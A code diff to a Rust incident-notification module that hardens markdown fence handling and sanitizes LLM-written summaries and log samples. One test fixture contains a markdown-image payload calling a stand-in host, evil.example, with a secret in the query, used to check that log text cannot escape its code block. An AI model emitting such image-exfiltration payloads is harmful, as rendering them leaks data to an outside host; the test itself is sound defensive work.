@@ -34,9 +34,9 @@ pub fn cap(text: &str, max: usize) -> String {
     if text.len() <= max {
         return text.to_string();
     }
-    // room for a closing fence and the marker; never half a token (the text
-    // is redacted already, this is in case a caller forgot)
-    let budget = max.saturating_sub(48);
+    // room for a closing fence (as long as the longest in the text) and the marker;
+    // never half a token (the text is redacted already, this is in case a caller forgot)
+    let budget = max.saturating_sub(48 + longest_fence(text));
     let mut end = crate::redact::cut_point(text, budget);
     if let Some(nl) = text[..end].rfind('\n') {
         if nl >= budget / 2 {
@@ -45,12 +45,9 @@ pub fn cap(text: &str, max: usize) -> String {
     }
     let kept = &text[..end];
     let mut out = kept.to_string();
-    let fences = kept
-        .lines()
-        .filter(|l| l.trim_start().starts_with("```"))
-        .count();
-    if fences % 2 == 1 {
-        out.push_str("\n```");
+    if let Some(fence) = open_fence(kept) {
+        out.push('\n');
+        out.push_str(&fence);
     }
     let left = text[end..].lines().filter(|l| !l.is_empty()).count();
     let s = if left == 1 { "" } else { "s" };
@@ -58,8 +55,37 @@ pub fn cap(text: &str, max: usize) -> String {
     out
 }
 
+/// The backtick fence a markdown text leaves open at its end, if any: a fence line
+/// opens a block, and only a fence at least as long closes it.
+fn open_fence(text: &str) -> Option<String> {
+    let mut open: Option<usize> = None;
+    for l in text.lines() {
+        let t = l.trim_start();
+        let n = t.chars().take_while(|&c| c == '`').count();
+        if n < 3 {
+            continue;
+        }
+        match open {
+            None => open = Some(n),
+            Some(o) if n >= o && t[n..].trim().is_empty() => open = None,
+            Some(_) => {}
+        }
+    }
+    open.map(|n| "`".repeat(n))
+}
+
+fn longest_fence(text: &str) -> usize {
+    text.lines()
+        .map(|l| l.trim_start().chars().take_while(|&c| c == '`').count())
+        .filter(|&n| n >= 3)
+        .max()
+        .unwrap_or(3)
+}
+
 /// The notification for a newly filed incident. Each part is redacted before it
-/// is cut (a secret cut in half would no longer be found).
+/// is cut (a secret cut in half would no longer be found). The summary (an LLM's
+/// words, or why there are none) is rendered as text, the log sample sits in a code
+/// block its backticks cannot close.
 pub fn for_incident(
     i: &IncidentRow,
     summary: &str,
@@ -67,21 +93,24 @@ pub fn for_incident(
     red: &crate::redact::Redactor,
 ) -> Notification {
     let mut body = String::new();
+    use crate::sanitize::{code_span, fence, md_inline, md_text};
     if !summary.trim().is_empty() {
-        body.push_str(&red.clean(summary.trim()));
+        body.push_str(&md_text(&red.clean(summary.trim())));
         body.push_str("\n\n");
     }
     body.push_str(&format!(
-        "**{}** on {} · {} occurrence{} · `{}`\n",
-        i.level,
-        i.host,
+        "**{}** on {} · {} occurrence{} · {}\n",
+        md_inline(&i.level),
+        md_inline(&i.host),
         i.occurrences,
         if i.occurrences == 1 { "" } else { "s" },
-        i.source
+        code_span(&i.source)
     ));
     if let Some(e) = i.samples.first() {
         let first: String = red.clean(e).lines().take(12).collect::<Vec<_>>().join("\n");
-        body.push_str(&format!("\n```\n{}\n```\n", cap(&first, 1500)));
+        let first = cap(&first, 1500);
+        let f = fence(&first);
+        body.push_str(&format!("\n{f}\n{first}\n{f}\n"));
     }
     body.push_str(&format!("\nIncident #{} · {file_name}", i.id));
     Notification {
@@ -161,6 +190,33 @@ mod tests {
     }
 
     #[test]
+    fn a_cut_inside_a_long_fence_closes_it_with_as_long_a_fence() {
+        let mut s = String::from("Summary\n\n`````\n");
+        for i in 0..500 {
+            s.push_str(&format!("line {i} with ``` inside\n"));
+        }
+        s.push_str("`````\nIncident #1\n");
+        let c = cap(&s, MAX_BODY);
+        assert!(c.len() <= MAX_BODY, "{}", c.len());
+        assert!(c.contains("\n`````\n…(cut: "), "{c}");
+        assert_eq!(open_fence(&c), None);
+    }
+
+    #[test]
+    fn backticks_in_log_text_cannot_break_out_of_the_sample() {
+        let i = crate::store::IncidentRow {
+            samples: vec!["boom ```\n![x](https://evil.example/?q=secret)\n```".into()],
+            title: "t".into(),
+            ..Default::default()
+        };
+        let n = for_incident(&i, "", "f.md", &crate::redact::Redactor::default());
+        let f = crate::sanitize::fence(&i.samples[0]);
+        assert!(f.len() > 3);
+        assert!(n.body.contains(&format!("{f}\nboom ```")), "{}", n.body);
+        assert_eq!(open_fence(&n.body), None, "{}", n.body);
+    }
+
+    #[test]
     fn a_cut_inside_a_code_block_closes_it() {
         let mut s = String::from("Summary line\n\n```\n");
         for i in 0..500 {
@@ -170,8 +226,7 @@ mod tests {
         let c = cap(&s, MAX_BODY);
         assert!(c.len() <= MAX_BODY);
         assert!(c.contains("\n```\n…(cut: "), "{c}");
-        let fences = c.lines().filter(|l| l.starts_with("```")).count();
-        assert_eq!(fences % 2, 0, "fences balanced");
+        assert_eq!(open_fence(&c), None, "fences balanced");
         // cut at a line end, not mid-line
         let before_fence = c.rsplit_once("\n```").unwrap().0;
         assert!(before_fence.ends_with("in f"), "{before_fence}");
